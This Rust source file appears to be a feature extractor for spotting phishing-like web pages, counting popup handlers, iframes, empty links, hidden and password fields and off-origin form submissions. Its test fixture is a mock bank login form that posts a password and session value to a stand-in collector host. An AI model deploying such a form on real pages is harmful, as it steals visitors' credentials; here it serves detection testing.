//! Structural queries over fetched HTML
//!
//! Parsing is best-effort: html5ever builds a tree out of any input, so
//! malformed or truncated markup never fails to load.

use scraper::{ElementRef, Html, Selector};
use thiserror::Error;

/// Errors raised by markup queries
#[derive(Debug, Error)]
pub enum MarkupError {
    #[error("Document is empty")]
    EmptyDocument,
}

/// Values of `href` that count as a link going nowhere
const EMPTY_HREFS: [&str; 2] = ["#", "javascript:void(0);"];

/// Substring marking an `onclick` handler as a popup opener
const POPUP_CALL: &str = "window.open";

/// Parsed page plus the raw text it came from
pub struct MarkupAnalyzer<'a> {
    raw: &'a str,
    document: Html,
    /// Lower-cased concatenation of every text node
    text: String,
}

impl<'a> MarkupAnalyzer<'a> {
    /// Parse `raw` into a traversable document
    pub fn parse(raw: &'a str) -> Self {
        let document = Html::parse_document(raw);
        let text = document.root_element().text().collect::<String>().to_lowercase();
        Self { raw, document, text }
    }

    /// Length in characters of the longest line of the raw markup.
    ///
    /// Lines break on the same boundaries as universal newlines.
    pub fn largest_line_length(&self) -> Result<usize, MarkupError> {
        largest_line_length(self.raw)
    }

    /// Elements whose `onclick` handler opens a new window
    pub fn popup_element_count(&self) -> usize {
        self.select("[onclick]")
            .filter(|el| {
                el.value()
                    .attr("onclick")
                    .is_some_and(|handler| handler.contains(POPUP_CALL))
            })
            .count()
    }

    /// Whether any form posts to an absolute URL outside `origin_url`
    pub fn has_external_form_submit(&self, origin_url: &str) -> bool {
        self.select("form").any(|form| {
            let action = form.value().attr("action").unwrap_or("");
            action.starts_with("http") && !action.starts_with(origin_url)
        })
    }

    /// Whether any element declares exactly `type="hidden"`
    pub fn has_hidden_field(&self) -> bool {
        self.has_input_type("hidden")
    }

    /// Whether any element declares exactly `type="password"`
    pub fn has_password_field(&self) -> bool {
        self.has_input_type("password")
    }

    /// Case-insensitive substring search over the document text
    pub fn body_contains_keyword(&self, word: &str) -> bool {
        self.text.contains(&word.to_lowercase())
    }

    /// Number of `<iframe>` elements
    pub fn iframe_count(&self) -> usize {
        self.select("iframe").count()
    }

    /// Anchors whose `href` is exactly `#` or `javascript:void(0);`
    pub fn empty_anchor_count(&self) -> usize {
        self.select("a[href]")
            .filter(|a| a.value().attr("href").is_some_and(|href| EMPTY_HREFS.contains(&href)))
            .count()
    }

    /// Attribute values compare verbatim: `type="PASSWORD"` is not a match
    fn has_input_type(&self, kind: &str) -> bool {
        self.select("[type]")
            .any(|el| el.value().attr("type") == Some(kind))
    }

    fn select(&self, css: &str) -> impl Iterator<Item = ElementRef<'_>> + '_ {
        let selector = Selector::parse(css).ok();
        selector
            .map(|s| self.document.select(&s).collect::<Vec<_>>())
            .unwrap_or_default()
            .into_iter()
    }
}

/// Length in characters of the longest line of `raw`; fails on empty input
pub fn largest_line_length(raw: &str) -> Result<usize, MarkupError> {
    if raw.is_empty() {
        return Err(MarkupError::EmptyDocument);
    }
    Ok(raw
        .split(is_line_boundary)
        .map(|line| line.chars().count())
        .max()
        .unwrap_or(0))
}

fn is_line_boundary(c: char) -> bool {
    matches!(
        c,
        '\n' | '\r' | '\x0b' | '\x0c' | '\x1c' | '\x1d' | '\x1e' | '\u{85}' | '\u{2028}' | '\u{2029}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    const LOGIN_PAGE: &str = r##"<html>
<head><title>Secure Bank Login</title></head>
<body>
<form action="https://collector.evil.net/steal" method="post">
  <input type="hidden" name="session" value="abc">
  <input type="password" name="pw">
</form>
<a href="#">x</a>
<a href="javascript:void(0);">y</a>
<a href="javascript:void(0)">z</a>
<button onclick="window.open('https://ads.example')">Win</button>
<div onclick="doSomething()">nope</div>
<iframe src="https://a.example"></iframe><iframe src="https://b.example"></iframe>
<p>Pay with CRYPTO today</p>
</body>
</html>"##;

    #[test]
    fn test_empty_anchor_count_is_narrow() {
        let analyzer = MarkupAnalyzer::parse(LOGIN_PAGE);
        assert_eq!(analyzer.empty_anchor_count(), 2);
    }

    #[test]
    fn test_popup_count() {
        let analyzer = MarkupAnalyzer::parse(LOGIN_PAGE);
        assert_eq!(analyzer.popup_element_count(), 1);
    }

    #[test]
    fn test_iframe_count() {
        let analyzer = MarkupAnalyzer::parse(LOGIN_PAGE);
        assert_eq!(analyzer.iframe_count(), 2);
    }

    #[test]
    fn test_field_types() {
        let analyzer = MarkupAnalyzer::parse(LOGIN_PAGE);
        assert!(analyzer.has_hidden_field());
        assert!(analyzer.has_password_field());

        let plain = MarkupAnalyzer::parse("<form><input type='text'></form>");
        assert!(!plain.has_hidden_field());
        assert!(!plain.has_password_field());
    }

    #[test]
    fn test_field_types_match_verbatim() {
        let analyzer = MarkupAnalyzer::parse(r#"<input type="PASSWORD"><input type=" hidden ">"#);
        assert!(!analyzer.has_password_field());
        assert!(!analyzer.has_hidden_field());

        let any_element = MarkupAnalyzer::parse(r#"<button type="hidden">x</button>"#);
        assert!(any_element.has_hidden_field());
    }

    #[test]
    fn test_external_form_submit() {
        let analyzer = MarkupAnalyzer::parse(LOGIN_PAGE);
        assert!(analyzer.has_external_form_submit("https://mybank.example/login"));
        assert!(!analyzer.has_external_form_submit("https://collector.evil.net"));

        let relative = MarkupAnalyzer::parse(r#"<form action="/submit"></form><form></form>"#);
        assert!(!relative.has_external_form_submit("https://site.example"));
    }

    #[test]
    fn test_keywords_are_case_insensitive() {
        let analyzer = MarkupAnalyzer::parse(LOGIN_PAGE);
        assert!(analyzer.body_contains_keyword("bank"));
        assert!(analyzer.body_contains_keyword("pay"));
        assert!(analyzer.body_contains_keyword("Crypto"));
        assert!(!analyzer.body_contains_keyword("casino"));
    }

    #[test]
    fn test_keywords_ignore_markup() {
        let analyzer = MarkupAnalyzer::parse(r#"<div class="bank" data-pay="1">hello</div>"#);
        assert!(!analyzer.body_contains_keyword("bank"));
        assert!(!analyzer.body_contains_keyword("pay"));
    }

    #[test]
    fn test_largest_line_length_counts_characters() {
        let analyzer = MarkupAnalyzer::parse("ab\r\nabcdé\rabc\n");
        assert_eq!(analyzer.largest_line_length().unwrap(), 5);
    }

    #[test]
    fn test_largest_line_length_fails_on_empty() {
        let analyzer = MarkupAnalyzer::parse("");
        assert!(matches!(
            analyzer.largest_line_length(),
            Err(MarkupError::EmptyDocument)
        ));
    }

    #[test]
    fn test_malformed_markup_is_tolerated() {
        let analyzer = MarkupAnalyzer::parse("<div><a href='#'>open<iframe></div></p></span><form action=");
        assert_eq!(analyzer.empty_anchor_count(), 1);
        assert_eq!(analyzer.iframe_count(), 1);
    }
}
